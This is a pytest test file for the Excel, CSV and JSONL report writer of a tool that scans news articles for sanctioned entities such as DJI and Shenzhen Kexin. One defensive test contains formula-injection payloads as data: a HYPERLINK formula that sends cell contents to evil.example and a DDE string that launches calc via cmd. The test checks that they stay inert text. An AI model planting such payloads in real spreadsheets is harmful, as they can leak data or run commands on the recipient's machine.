"""Tests for the reporting stage: workbooks are written to tmp_path and read back with openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import os
import re
import zipfile
from copy import copy
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

import watchlist_extractor.reporting as reporting
from watchlist_extractor.errors import ReportError
from watchlist_extractor.model import Rule, RuleFile, RuleModel, RuleSet, SourceModel
from watchlist_extractor.reporting import (
    DECISIONS,
    EXCEL_CELL_LIMIT,
    JSON_KEYS,
    MATCH_COLUMNS,
    SHEETS,
    excel,
    format_summary,
    write_csv,
    write_jsonl,
    write_report,
)
from watchlist_extractor.reporting.cells import clean_text, fit_context, neutralise_csv
from watchlist_extractor.results import DocumentResult, Match, ScanResult, SuppressedMatch

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "seeds" / "004_aca631c873de0f03.txt"
SEED_DOC = "seeds/004_aca631c873de0f03.txt"
SEED_TEXT = SEED.read_text(encoding="utf-8")
STARTED = dt.datetime(2024, 6, 3, 9, 15, 0, tzinfo=dt.timezone.utc)
FINISHED = dt.datetime(2024, 6, 3, 9, 15, 4, 500000, tzinfo=dt.timezone.utc)

KEXIN_SENTENCE = (
    "In one case, on Feb. 1, Russian information technology company Status Compliances imported"
    " three drones, with takeoff weights of between 25 kg and 150 kg, from Shenzhen Kexin Smart"
    " Development, an electronic devices manufacturer in Shenzhen, for $28,292."
)
# The match as the scanner reports it for the seed article (offsets checked against the file).
KEXIN = Match(
    document=SEED_DOC, line=12, column=161, start=2823, end=2855, category="entity",
    rule_id="entity.kexin", rule_name="Shenzhen Kexin Smart Development", severity="high",
    matched_text="Shenzhen Kexin Smart Development", context=KEXIN_SENTENCE,
    context_match_start=160, context_match_end=192, sentence_start=2663, sentence_end=2917,
    term="Shenzhen Kexin Smart Development",
)


def make_rule(rule_id, category, name, severity, terms, *, line, source=None, path=None):
    model = RuleModel(id=rule_id, category=category, name=name, severity=severity, terms=terms,
                      source=source, version=2 if rule_id == "entity.dji" else 1)
    return Rule(model, path or f"rules/{category}.yaml", line)


RULES = (
    make_rule("entity.dji", "entity", "SZ DJI Technology", "critical", ["DJI"], line=3,
              source=SourceModel(list="BIS Entity List", program="EAR")),
    make_rule("entity.dji-ns-cmic", "entity", "SZ DJI Technology", "critical", ["DJI"], line=12,
              source=SourceModel(list="OFAC NS-CMIC", entry_id="32562")),
    make_rule("entity.kexin", "entity", "Shenzhen Kexin Smart Development", "high",
              ["Shenzhen Kexin Smart Development"], line=21,
              source=SourceModel(list="Demo watchlist", entry_id="K-1")),
    make_rule("entity.jarch", "entity", "Shenzhen Jarch Electromechanical Technology", "medium",
              ["Shenzhen Jarch Electromechanical Technology"], line=30),
    make_rule("entity.rostec", "entity", "Rostec", "high", ["Rostec"], line=39,
              source=SourceModel(list="OFAC SDN", entry_id="25418", program="UKRAINE-EO13662")),
    make_rule("good.uav", "good", "Unmanned aerial vehicles", "medium", ["drones"], line=3,
              source=SourceModel(list="EU Reg. 833/2014 Annex VII", entry_id="8806")),
    make_rule("good.jammer", "good", "Drone jammers", "low", ["jam drones"], line=11),
    make_rule("phrase.smo", "phrase", "Special military operation designation", "high",
              ["special military operation"], line=3),
    make_rule("phrase.dual-use", "phrase", "Dual-use goods", "informational",
              ["dual-use goods"], line=10),
)
RULESET = RuleSet(
    rules=RULES,
    files=(
        RuleFile("rules/entity.yaml", hashlib.sha256(b"entity").hexdigest(), 5),
        RuleFile("rules/good.yaml", hashlib.sha256(b"good").hexdigest(), 2),
        RuleFile("rules/phrase.yaml", hashlib.sha256(b"phrase").hexdigest(), 2),
    ),
)
ALSO = {"entity.dji": ("entity.dji-ns-cmic",)}
SKIP_RULES = {"entity.dji-ns-cmic"}  # claimed through also_rules only


def sentence_bounds(text, start, end):
    """Sentence around a span: between '. X' boundaries inside its line (enough for the seed)."""
    line_start = text.rfind("\n", 0, start) + 1
    line_end = text.find("\n", end)
    line_end = len(text) if line_end < 0 else line_end
    s = line_start
    for found in re.finditer(r"[.!?][\"'”’)]*\s+(?=[A-Z\"“])", text[line_start:start]):
        s = line_start + found.end()
    e = line_end
    found = re.search(r"[.!?][\"'”’)]*(?=\s+[A-Z\"“])", text[end:line_end])
    if found:
        e = end + found.end()
    return s, e


def scan_text(document, text, seen=None):
    """A tiny literal matcher standing in for the real one: realistic Match values."""
    seen = {} if seen is None else seen
    found = []
    for rule in RULES:
        if rule.id in SKIP_RULES:
            continue
        for term in (t.term for t in rule.model.term_models()):
            for hit in re.finditer(r"\b" + re.escape(term) + r"\b", text):
                start, end = hit.span()
                s, e = sentence_bounds(text, start, end)
                line = text.count("\n", 0, start) + 1
                column = start - (text.rfind("\n", 0, start) + 1) + 1
                sentence = text[s:e]
                first = seen.setdefault(sentence, f"{document}:{line}")
                found.append(Match(
                    document=document, line=line, column=column, start=start, end=end,
                    category=rule.category, rule_id=rule.id, rule_name=rule.name,
                    severity=rule.severity, matched_text=text[start:end], context=sentence,
                    context_match_start=start - s, context_match_end=end - s,
                    sentence_start=s, sentence_end=e, term=term,
                    also_rules=ALSO.get(rule.id, ()),
                    duplicate_of="" if first == f"{document}:{line}" else first,
                ))
    return found


def document(name, path, text, status="scanned", reason=""):
    data = text.encode("utf-8")
    return DocumentResult(
        document=name, path=str(path), status=status, reason=reason, size_bytes=len(data),
        sha256=hashlib.sha256(data).hexdigest() if status == "scanned" else "",
        characters=len(text),
    )


def make_result(matches, documents, suppressed=()):
    return ScanResult(
        matches=list(matches), documents=list(documents), started=STARTED, finished=FINISHED,
        inputs=["seeds/", "syndicated/"], rule_files=[f.path for f in RULESET.files],
        suppressed=list(suppressed),
        command_line="watchlist scan seeds/ syndicated/ --rules rules/ -o reports/scan.xlsx",
    )


@pytest.fixture(scope="module")
def seed_result(tmp_path_factory):
    """The seed article, a syndicated copy of its Kexin paragraph, one skipped, one failed."""
    folder = tmp_path_factory.mktemp("inputs")
    copy_text = "Reprinted from Nikkei Asia.\n" + SEED_TEXT.splitlines()[11] + "\n"
    copy_path = folder / "copy.txt"
    copy_path.write_text(copy_text, encoding="utf-8")
    seen: dict[str, str] = {}
    matches = scan_text(SEED_DOC, SEED_TEXT, seen)
    matches += scan_text("syndicated/copy.txt", copy_text, seen)
    suppressed_match = next(m for m in matches if m.rule_id == "good.uav")
    matches.remove(suppressed_match)
    documents = [
        document(SEED_DOC, SEED, SEED_TEXT),
        document("syndicated/copy.txt", copy_path, copy_text),
        document("seeds/photo.jpg", folder / "photo.jpg", "", "skipped", "not a text file"),
        document("seeds/broken.txt", folder / "broken.txt", "", "failed", "permission denied"),
    ]
    suppressed = [SuppressedMatch(suppressed_match, "supp.headline-drones", "a.reviewer",
                                  "generic mention in the lede")]
    # Scanner order is not report order: shuffle deterministically.
    matches.reverse()
    return make_result(matches, documents, suppressed)


def load(path, rich=False):
    return openpyxl.load_workbook(path, rich_text=rich)


def values(ws):
    """Every cell value of a sheet, rich text flattened to its string."""
    return [[str(v) if isinstance(v, CellRichText) else v for v in row]
            for row in ws.iter_rows(values_only=True)]


def rows_as_dicts(ws):
    rows = values(ws)
    return [dict(zip(rows[0], r)) for r in rows[1:]]


@pytest.fixture(scope="module")
def report(seed_result, tmp_path_factory):
    path = tmp_path_factory.mktemp("report") / "scan.xlsx"
    assert write_report(seed_result, RULESET, path, streaming=False) == path
    return path


# --- The seed match itself ---------------------------------------------------------------------

def test_kexin_match_agrees_with_the_seed_article():
    assert SEED_TEXT[KEXIN.start:KEXIN.end] == KEXIN.matched_text
    assert SEED_TEXT[KEXIN.sentence_start:KEXIN.sentence_end] == KEXIN.context
    assert KEXIN.context[KEXIN.context_match_start:KEXIN.context_match_end] == KEXIN.matched_text
    assert KEXIN in scan_text(SEED_DOC, SEED_TEXT)


# --- Workbook layout ---------------------------------------------------------------------------

@pytest.mark.parametrize("streaming", [False, True])
def test_sheets_in_order(seed_result, tmp_path, streaming):
    path = write_report(seed_result, RULESET, tmp_path / "r.xlsx", streaming=streaming)
    assert load(path).sheetnames == list(SHEETS)


def test_matches_header_row(report):
    ws = load(report)["Matches"]
    assert [c.value for c in ws[1]] == [
        "Document", "Line", "Category", "Rule ID", "Rule", "Severity", "Matched text", "Context",
        "Column", "Start", "End", "Term", "Source/List", "Also on", "Repeated", "Link",
        "Decision", "Note",
    ]
    assert list(MATCH_COLUMNS) == [c.value for c in ws[1]]
    assert all(c.font.b for c in ws[1])
    assert ws["A1"].fill.fgColor.rgb == "FF1F4E78"


def test_known_match_row_with_highlighted_term(report):
    ws = load(report, rich=True)["Matches"]
    rows = list(ws.iter_rows(min_row=2))
    (row,) = [r for r in rows if r[3].value == "entity.kexin" and r[0].value == SEED_DOC
              and r[1].value == 12]
    cells = {h: c for h, c in zip(MATCH_COLUMNS, row)}
    assert [cells[h].value for h in ("Document", "Line", "Category", "Rule ID", "Rule",
                                     "Severity", "Matched text", "Column", "Start", "End",
                                     "Term", "Source/List", "Also on", "Repeated",
                                     "Decision", "Note")] == [
        SEED_DOC, 12, "entity", "entity.kexin", "Shenzhen Kexin Smart Development", "high",
        "Shenzhen Kexin Smart Development", 161, 2823, 2855, "Shenzhen Kexin Smart Development",
        "Demo watchlist #K-1", None, None, None, None,
    ]
    context = cells["Context"].value
    assert isinstance(context, CellRichText)
    assert str(context) == KEXIN_SENTENCE
    assert context[0] == KEXIN_SENTENCE[:160]
    highlighted = context[1]
    assert isinstance(highlighted, TextBlock)
    assert highlighted.text == "Shenzhen Kexin Smart Development"
    assert highlighted.font.b and highlighted.font.color.rgb == "FFC00000"
    assert context[2] == KEXIN_SENTENCE[192:]
    assert cells["Context"].alignment.wrap_text


def test_rows_sorted_by_document_then_start(report, seed_result):
    rows = rows_as_dicts(load(report)["Matches"])
    keys = [(r["Document"], r["Start"]) for r in rows]
    assert keys == sorted(keys)
    assert len(rows) == len(seed_result.matches)


def test_severity_shown_by_fill(report):
    ws = load(report)["Matches"]
    fills = {}
    for row in ws.iter_rows(min_row=2):
        fills.setdefault(row[5].value, row[5].fill.fgColor.rgb)
    assert fills == {
        "critical": "FF8B0000", "high": "FFE0301E", "medium": "FFF79646", "low": "FFFFE066",
        "informational": "FFD9D9D9",
    }


def test_link_opens_the_document(report, seed_result):
    ws = load(report)["Matches"]
    link_col = MATCH_COLUMNS.index("Link") + 1
    for row in range(2, ws.max_row + 1):
        cell = ws.cell(row, link_col)
        document = ws.cell(row, 1).value
        path = next(d.path for d in seed_result.documents if d.document == document)
        assert cell.hyperlink.target == Path(path).resolve().as_uri()
        line, column = ws.cell(row, 2).value, ws.cell(row, 9).value
        assert cell.value == f"{document}:{line}:{column}"
    assert ws.cell(2, link_col).hyperlink.target.startswith("file:///")


def test_decision_drop_down_frozen_header_and_filter(report):
    ws = load(report)["Matches"]
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"confirmed,false positive,needs review"'
    assert tuple(validation.formula1.strip('"').split(",")) == DECISIONS
    assert str(validation.sqref) == f"Q2:Q{ws.max_row}"
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == f"A1:R{ws.max_row}"
    assert ws.print_title_rows == "$1:$1"
    assert ws.column_dimensions["H"].width >= 60  # Context is readable


def test_repeated_passages_are_marked_muted_and_counted_once(report, seed_result):
    wb = load(report)
    rows = rows_as_dicts(wb["Matches"])
    copies = [r for r in rows if r["Document"] == "syndicated/copy.txt"]
    assert [(r["Rule ID"], r["Repeated"]) for r in copies] == [
        ("good.uav", f"{SEED_DOC}:12"),
        ("entity.kexin", f"{SEED_DOC}:12"),
        ("entity.jarch", f"{SEED_DOC}:12"),
    ]
    assert all(r["Repeated"] is None for r in rows if r["Document"] == SEED_DOC)
    for row in wb["Matches"].iter_rows(min_row=2):
        repeated = row[0].value == "syndicated/copy.txt"
        assert bool(row[0].font.i) is repeated
        assert (row[0].font.color is not None and row[0].font.color.rgb == "FF808080") is repeated

    summary = values(wb["Summary"])
    (total,) = [r for r in summary if r[0] == "Total"]
    assert list(total[:4]) == ["Total", 44, 41, 1]  # mentions, unique mentions, suppressed
    assert summary[1][0].startswith("41 unique mentions (44 in all) in 2 of 2 scanned documents")
    entities = rows_as_dicts(wb["Entities"])
    kexin = next(e for e in entities if e["Entity"] == "Shenzhen Kexin Smart Development")
    assert (kexin["Mentions"], kexin["Unique mentions"], kexin["Documents"]) == (3, 2, 2)


# --- Other sheets ------------------------------------------------------------------------------

def test_entities_sheet(report):
    rows = rows_as_dicts(load(report)["Entities"])
    assert [r["Entity"] for r in rows] == [
        "SZ DJI Technology", "Shenzhen Kexin Smart Development",
        "Shenzhen Jarch Electromechanical Technology",
    ]
    dji, kexin, jarch = rows
    assert dji["Lists"] == "BIS Entity List (EAR); OFAC NS-CMIC #32562"
    assert dji["Rule IDs"] == "entity.dji; entity.dji-ns-cmic"
    assert (dji["Severity"], dji["Mentions"], dji["Documents"]) == ("critical", 8, 1)
    assert dji["First seen"] == f"{SEED_DOC}:6"
    assert dji["Goods in the same sentences"] == "Unmanned aerial vehicles (3)"
    assert kexin["First context"] == KEXIN_SENTENCE
    assert kexin["Goods in the same sentences"] == "Unmanned aerial vehicles (1)"
    assert kexin["Phrases in the same sentences"] is None
    assert jarch["Lists"] is None  # a rule without source or references names no list


def test_documents_sheet(report, seed_result):
    rows = rows_as_dicts(load(report)["Documents"])
    assert [(r["Document"], r["Status"], r["Reason"], r["Mentions"]) for r in rows] == [
        (SEED_DOC, "scanned", None, 41),
        ("seeds/broken.txt", "failed", "permission denied", 0),
        ("seeds/photo.jpg", "skipped", "not a text file", 0),
        ("syndicated/copy.txt", "scanned", None, 3),
    ]
    seed = rows[0]
    assert seed["SHA-256"] == hashlib.sha256(SEED.read_bytes()).hexdigest()
    assert seed["Size (bytes)"] == SEED.stat().st_size
    assert seed["Path"] == str(SEED)


def test_rules_sheet_fired_first_never_fired_flagged(report):
    ws = load(report)["Rules"]
    rows = rows_as_dicts(ws)
    assert [(r["Rule ID"], r["Hits"], r["Fired"]) for r in rows] == [
        ("good.uav", 22, "fired"),
        ("entity.dji", 8, "fired"),
        ("phrase.smo", 5, "fired"),
        ("entity.jarch", 4, "fired"),
        ("entity.kexin", 3, "fired"),
        ("good.jammer", 1, "fired"),
        ("phrase.dual-use", 1, "fired"),
        ("entity.dji-ns-cmic", 0, "also claimed"),
        ("entity.rostec", None, "never fired"),  # counts left blank
    ]
    dji = rows[1]
    assert (dji["Version"], dji["Defined at"], dji["Source/List"], dji["Status"]) == (
        2, "rules/entity.yaml:3", "BIS Entity List (EAR)", "experimental")
    assert rows[7]["Also claimed"] == 8
    never = ws.cell(ws.max_row, 1)
    assert never.value == "entity.rostec" and never.font.i and never.font.color.rgb == "FF8C8C8C"
    assert not ws.cell(2, 1).font.i


def test_run_sheet_is_an_audit_trail(report, seed_result):
    rows = values(load(report)["Run"])
    facts = {r[0]: r[1] for r in rows if r[0] and r[1] is not None}
    assert re.fullmatch(r"watchlist-extractor \S+", facts["Tool"])
    assert facts["Run started"] == "2024-06-03 09:15:00+00:00"
    assert facts["Run finished"] == "2024-06-03 09:15:04+00:00"
    assert facts["Command line"] == seed_result.command_line
    assert re.fullmatch(r"[0-9a-f]{64}", facts["Rule set fingerprint"])
    assert facts["Inputs (as given)"] == "seeds/"
    for rule_file in RULESET.files:
        assert [rule_file.path, rule_file.sha256, rule_file.rule_count] in [
            list(r[:3]) for r in rows]
    for d in seed_result.documents:
        assert [d.document, d.sha256 or None, d.size_bytes, d.status] in [list(r[:4]) for r in rows]
    (suppressed,) = [r for r in rows if r[3] == "supp.headline-drones"]
    assert suppressed[0] == f"{SEED_DOC}:2:38"
    assert suppressed[4] == "generic mention in the lede (a.reviewer)"


def test_summary_shows_the_most_serious_finding_first(report):
    wb = load(report)
    ws = wb["Summary"]
    rows = values(ws)
    header = rows.index(["Finding (rule)", "Severity", "Unique mentions", "Matched text",
                         "Document", "Line", "Category"])
    assert header < 8  # at the top, before the run facts
    assert rows[header + 1] == ["SZ DJI Technology", "critical", 8, "DJI", SEED_DOC, 6, "entity"]
    assert ws.cell(header + 2, 2).fill.fgColor.rgb == "FF8B0000"
    assert [r[1] for r in rows[header + 1:header + 8]] == [
        "critical", "high", "high", "medium", "medium", "low", "informational"]
    assert all(r[4] != "syndicated/copy.txt" for r in rows[header + 1:header + 8])
    labels = [r[0] for r in rows]
    for section in ("Mentions per category", "Mentions per severity", "Top entities",
                    "Mentions per document", "Run", "Sheets"):
        assert section in labels
    with zipfile.ZipFile(report) as archive:
        assert any(name.startswith("xl/charts/chart") for name in archive.namelist())
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage


# --- Hostile text ------------------------------------------------------------------------------

def crafted_result(*matches, rules=RULESET):
    doc = document("crafted.txt", "/data/crafted.txt", "x")
    return make_result(matches, [doc]), rules


def crafted_match(context, matched, **fields):
    start = context.index(matched)
    values = dict(
        document="crafted.txt", line=1, column=start + 1, start=start, end=start + len(matched),
        category="entity", rule_id="entity.kexin", rule_name="Shenzhen Kexin Smart Development",
        severity="high", matched_text=matched, context=context, context_match_start=start,
        context_match_end=start + len(matched), sentence_start=0, sentence_end=len(context),
        term=matched,
    )
    values.update(fields)
    return Match(**values)


@pytest.mark.parametrize("streaming", [False, True])
def test_text_that_looks_like_a_formula_stays_text(tmp_path, streaming):
    context = '=HYPERLINK("http://evil.example/?q="&A1,"Open") =1+1 shipped via Acme'
    evil = Rule(RuleModel(id="entity.evil", category="entity", name="=1+1 Trading",
                          terms=["x"], references=["=cmd|' /C calc'!A0"]), "=rules.yaml", 1)
    rules = RuleSet(RULESET.rules + (evil,), RULESET.files)
    match = crafted_match(context, "=1+1", rule_id="entity.evil", rule_name="=1+1 Trading",
                          document="=crafted.txt", term="=SUM(A1:A9)")
    error_like = crafted_match("#N/A was printed", "#N/A", term="#REF!", rule_id="entity.evil")
    result, _ = crafted_result(match, error_like)
    path = write_report(result, rules, tmp_path / "r.xlsx", streaming=streaming)
    wb = load(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {context, "=1+1", "=1+1 Trading", "=crafted.txt", "=SUM(A1:A9)",
            "=cmd|' /C calc'!A0"} <= seen
    row = {h: c for h, c in zip(MATCH_COLUMNS, wb["Matches"][3])}
    assert (row["Matched text"].value, row["Term"].value) == ("#N/A", "#REF!")
    assert row["Matched text"].data_type == row["Term"].data_type == "s"
    rich = load(path, rich=True)["Matches"]["H2"].value
    assert [type(part) for part in rich] == [str, TextBlock, str]
    assert rich[1].text == "=1+1"


@pytest.mark.parametrize("streaming", [False, True])
def test_control_characters_are_removed_never_fatal(tmp_path, streaming):
    context = "Acme\x00 Corp\x0b sold\x1f drones to \x07Shenzhen Kexin\x08 Smart Development\ud800."
    match = crafted_match(context, "Shenzhen Kexin\x08 Smart Development",
                          document="crafted\x0c.txt", rule_name="Shenzhen\x1b Kexin")
    result, rules = crafted_result(match)
    path = write_report(result, rules, tmp_path / "r.xlsx", streaming=streaming)
    ws = load(path, rich=True)["Matches"]
    cells = {h: c.value for h, c in zip(MATCH_COLUMNS, ws[2])}
    assert str(cells["Context"]) == "Acme Corp sold drones to Shenzhen Kexin Smart Development."
    assert cells["Context"][1].text == "Shenzhen Kexin Smart Development"
    assert cells["Matched text"] == "Shenzhen Kexin Smart Development"
    assert cells["Document"] == "crafted.txt"
    assert cells["Rule"] == "Shenzhen Kexin"


@pytest.mark.parametrize("streaming", [False, True])
def test_forty_thousand_character_paragraph_keeps_the_match(tmp_path, streaming):
    name = "Shenzhen Kexin Smart Development"
    context = ("Lorem ipsum dolor sit amet. " * 715)[:20_000] + name + (" trade data" * 2000)
    assert len(context) > 40_000
    result, rules = crafted_result(crafted_match(context, name))
    path = write_report(result, rules, tmp_path / "r.xlsx", streaming=streaming)
    cell = load(path, rich=True)["Matches"]["H2"]
    text = str(cell.value)
    assert len(text) <= EXCEL_CELL_LIMIT
    before, hit, after = cell.value
    assert hit.text == name and hit.font.b
    assert before.startswith("…") and after.endswith("…")
    assert abs(len(before) - len(after)) <= 2  # a window centred on the match
    assert load(path)["Entities"]["H2"].value.count(name) == 1


@pytest.mark.parametrize(
    ("context", "start", "end", "limit", "expected"),
    [
        ("He met Acme Ltd in May.", 7, 15, 100, ("He met ", "Acme Ltd", " in May.")),
        ("He met Acme Ltd in May.", 7, 15, 15, ("…t ", "Acme Ltd", " in…")),
        ("Acme Ltd in May, and more", 0, 8, 14, ("", "Acme Ltd", " in …")),
        ("At the end: Acme Ltd", 12, 20, 14, ("…nd: ", "Acme Ltd", "")),
        ("x\x00y Acme\x07 Ltd z", 4, 13, 100, ("xy ", "Acme Ltd", " z")),
        ("Acme Ltd", 0, 8, 5, ("", "Acme…", "")),
        ("bad offsets", 40, 50, 100, ("bad offsets", "", "")),
    ],
)
def test_fit_context(context, start, end, limit, expected):
    assert fit_context(context, start, end, limit) == expected
    assert sum(map(len, fit_context(context, start, end, limit))) <= limit


def test_clean_text_and_csv_rule():
    assert clean_text("a\x00b\tc\nd\x1f\ufffe") == "ab\tc\nd"
    assert clean_text("x" * 10, limit=5) == "xxxx…"
    assert [neutralise_csv(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=b", " =x")] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", " =x"]


# --- Size: overflow and streaming ----------------------------------------------------------------

@pytest.mark.parametrize("streaming", [False, True])
def test_matches_continue_on_further_sheets(seed_result, tmp_path, streaming):
    path = write_report(seed_result, RULESET, tmp_path / "r.xlsx", streaming=streaming,
                        max_rows_per_sheet=20)
    wb = load(path)
    assert wb.sheetnames == ["Summary", "Matches", "Matches (2)", "Matches (3)", "Entities",
                             "Documents", "Rules", "Run"]
    parts = [values(wb[name]) for name in ("Matches", "Matches (2)", "Matches (3)")]
    assert [len(p) - 1 for p in parts] == [20, 20, 4]
    assert all(p[0] == list(MATCH_COLUMNS) for p in parts)
    whole = values(load(write_report(seed_result, RULESET, tmp_path / "one.xlsx"))["Matches"])
    assert whole[1:] == parts[0][1:] + parts[1][1:] + parts[2][1:]
    for name in ("Matches (2)", "Matches (3)"):
        ws = wb[name]
        assert ws.freeze_panes == "B2" and ws.auto_filter.ref == f"A1:R{ws.max_row}"
        assert str(ws.data_validations.dataValidation[0].sqref) == f"Q2:Q{ws.max_row}"
    assert "Matches, Matches (2), Matches (3)" in [r[0] for r in values(wb["Summary"])]


def test_every_table_continues_on_further_sheets(seed_result, tmp_path):
    path = write_report(seed_result, RULESET, tmp_path / "r.xlsx", streaming=True,
                        max_rows_per_sheet=3)
    wb = load(path)
    titles = wb.sheetnames
    assert titles[:2] == ["Summary", "Matches"] and titles[15] == "Matches (15)"
    assert titles[16:] == ["Entities", "Documents", "Documents (2)", "Rules", "Rules (2)",
                           "Rules (3)", "Run"]
    rules = [r for name in ("Rules", "Rules (2)", "Rules (3)") for r in values(wb[name])[1:]]
    assert [r[0] for r in rules] == [r["Rule ID"] for r in rows_as_dicts(load(
        write_report(seed_result, RULESET, tmp_path / "one.xlsx"))["Rules"])]


def test_max_match_rows_writes_the_first_rows_and_counts_all(seed_result, tmp_path):
    path = write_report(seed_result, RULESET, tmp_path / "r.xlsx", max_match_rows=5,
                        omitted_rows_note="all rows: out/part-*.matches.jsonl")
    wb = load(path)
    assert wb["Matches"].max_row == 6
    summary = [r[0] for r in values(wb["Summary"])]
    assert ("The Matches sheets hold the first 5 of 44 mentions; every count here includes them "
            "all; all rows: out/part-*.matches.jsonl") in summary
    assert rows_as_dicts(wb["Rules"])[0]["Hits"] == 22


def rich_runs(value):
    if isinstance(value, CellRichText):
        return [(p.text, bool(p.font.b)) if isinstance(p, TextBlock) else (p, False) for p in value]
    return value


def test_streaming_and_normal_mode_give_the_same_cells(seed_result, tmp_path):
    normal = write_report(seed_result, RULESET, tmp_path / "normal.xlsx", streaming=False)
    streamed = write_report(seed_result, RULESET, tmp_path / "streamed.xlsx", streaming=True)
    a, b = load(normal, rich=True), load(streamed, rich=True)
    assert a.sheetnames == b.sheetnames
    for name in a.sheetnames:
        wa, wb = a[name], b[name]
        assert wa.max_row == wb.max_row and wa.max_column == wb.max_column, name
        assert wa.freeze_panes == wb.freeze_panes and wa.auto_filter.ref == wb.auto_filter.ref
        assert wa.print_title_rows == wb.print_title_rows and wa.print_area == wb.print_area
        assert wa.page_setup.orientation == wb.page_setup.orientation
        for ra, rb in zip(wa.iter_rows(), wb.iter_rows(), strict=True):
            for ca, cb in zip(ra, rb, strict=True):
                where = (name, ca.coordinate)
                assert rich_runs(ca.value) == rich_runs(cb.value), where
                assert ca.data_type == cb.data_type, where
                assert copy(ca.font) == copy(cb.font) and copy(ca.fill) == copy(cb.fill), where
                assert copy(ca.alignment) == copy(cb.alignment), where
                assert (ca.hyperlink.target if ca.hyperlink else None) == (
                    cb.hyperlink.target if cb.hyperlink else None), where
        assert {k: d.width for k, d in wa.column_dimensions.items()} == {
            k: d.width for k, d in wb.column_dimensions.items()}
        assert {i: d.height for i, d in wa.row_dimensions.items() if d.height} == {
            i: d.height for i, d in wb.row_dimensions.items() if d.height}
    assert [str(v.sqref) for v in a["Matches"].data_validations.dataValidation] == [
        str(v.sqref) for v in b["Matches"].data_validations.dataValidation]


def test_rows_are_streamed_by_default(seed_result, monkeypatch, tmp_path):
    chosen = []
    real = excel.build_workbook

    def spy(*args, **kwargs):
        chosen.append(kwargs["streaming"])
        return real(*args, **kwargs)

    monkeypatch.setattr(reporting, "build_workbook", spy)
    path = write_report(seed_result, RULESET, tmp_path / "default.xlsx")
    assert chosen == [True]
    # The used range is written for the streamed rows: read-only readers size sheets by it.
    reader = openpyxl.load_workbook(path, read_only=True)
    full = load(path)
    for name in reader.sheetnames:
        assert (reader[name].max_row, reader[name].max_column) == (
            full[name].max_row, full[name].max_column), name


# --- Atomic writes and errors --------------------------------------------------------------------

@pytest.mark.parametrize("streaming", [False, True])
def test_failed_write_keeps_the_previous_report(seed_result, tmp_path, monkeypatch, streaming):
    path = write_report(seed_result, RULESET, tmp_path / "scan.xlsx")
    before_bytes = path.read_bytes()
    before = values(load(path)["Matches"])

    def half_written(filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    if streaming:  # the final file is written when the streamed rows are spliced in
        monkeypatch.setattr(excel, "splice_rows", lambda package, name, parts: half_written(name))
    else:
        monkeypatch.setattr(openpyxl.Workbook, "save", lambda self, name: half_written(name))
    with pytest.raises(ReportError) as error:
        write_report(seed_result, RULESET, path, streaming=streaming)
    assert str(error.value) == (
        f"cannot write {path}: the disk is full; free some space or write elsewhere")
    assert path.read_bytes() == before_bytes
    assert values(load(path)["Matches"]) == before
    assert [p.name for p in tmp_path.iterdir()] == ["scan.xlsx"]


def test_failure_midway_through_a_streamed_workbook(seed_result, tmp_path, monkeypatch):
    path = write_report(seed_result, RULESET, tmp_path / "scan.xlsx", streaming=True)
    before = path.read_bytes()

    def explode(*args, **kwargs):
        raise RuntimeError("entity table broke")

    monkeypatch.setattr(excel, "_entities_sheet", explode)  # after the Matches rows streamed
    with pytest.raises(ReportError, match=r"^cannot write .*scan.xlsx: RuntimeError: entity "
                                          r"table broke; the previous file is unchanged$"):
        write_report(seed_result, RULESET, path, streaming=True)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["scan.xlsx"]


def test_report_in_a_missing_folder(seed_result, tmp_path):
    path = tmp_path / "no" / "such" / "scan.xlsx"
    with pytest.raises(ReportError) as error:
        write_report(seed_result, RULESET, path)
    message = str(error.value)
    assert message == (f"cannot write {path}: the folder {path.parent} does not exist; "
                       "create it or choose another output path")
    assert not (tmp_path / "no").exists()


def test_report_path_is_a_folder(seed_result, tmp_path):
    with pytest.raises(ReportError, match="it is a folder; give a file name"):
        write_report(seed_result, RULESET, tmp_path)


def test_report_open_elsewhere_or_not_writable(seed_result, tmp_path, monkeypatch):
    # On Windows a workbook open in Excel cannot be replaced: os.replace raises PermissionError.
    path = tmp_path / "scan.xlsx"
    path.write_bytes(b"previous")

    def locked(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ReportError) as error:
        write_report(seed_result, RULESET, path)
    assert "permission denied; close the file if it is open (e.g. in Excel)" in str(error.value)
    assert "\n" not in str(error.value)
    assert path.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["scan.xlsx"]


# --- Determinism ---------------------------------------------------------------------------------

@pytest.mark.parametrize("streaming", [False, True])
def test_same_inputs_give_the_same_cells(seed_result, tmp_path, streaming):
    shuffled = make_result(
        list(reversed(seed_result.matches)), list(reversed(seed_result.documents)),
        seed_result.suppressed,
    )
    first = load(write_report(seed_result, RULESET, tmp_path / "a.xlsx", streaming=streaming))
    second = load(write_report(shuffled, RULESET, tmp_path / "b.xlsx", streaming=streaming))
    for name in first.sheetnames:
        assert values(first[name]) == values(second[name]), name


def test_empty_run(tmp_path):
    result = make_result([], [document("quiet.txt", tmp_path / "quiet.txt", "Nothing here.")])
    wb = load(write_report(result, RULESET, tmp_path / "r.xlsx"))
    assert wb.sheetnames == list(SHEETS)
    assert values(wb["Matches"]) == [list(MATCH_COLUMNS)]
    assert ("No matches: none of the 9 rules fired in 1 scanned document."
            in [r[0] for r in values(wb["Summary"])])
    assert len(values(wb["Rules"])) == 10


# --- Exports -------------------------------------------------------------------------------------

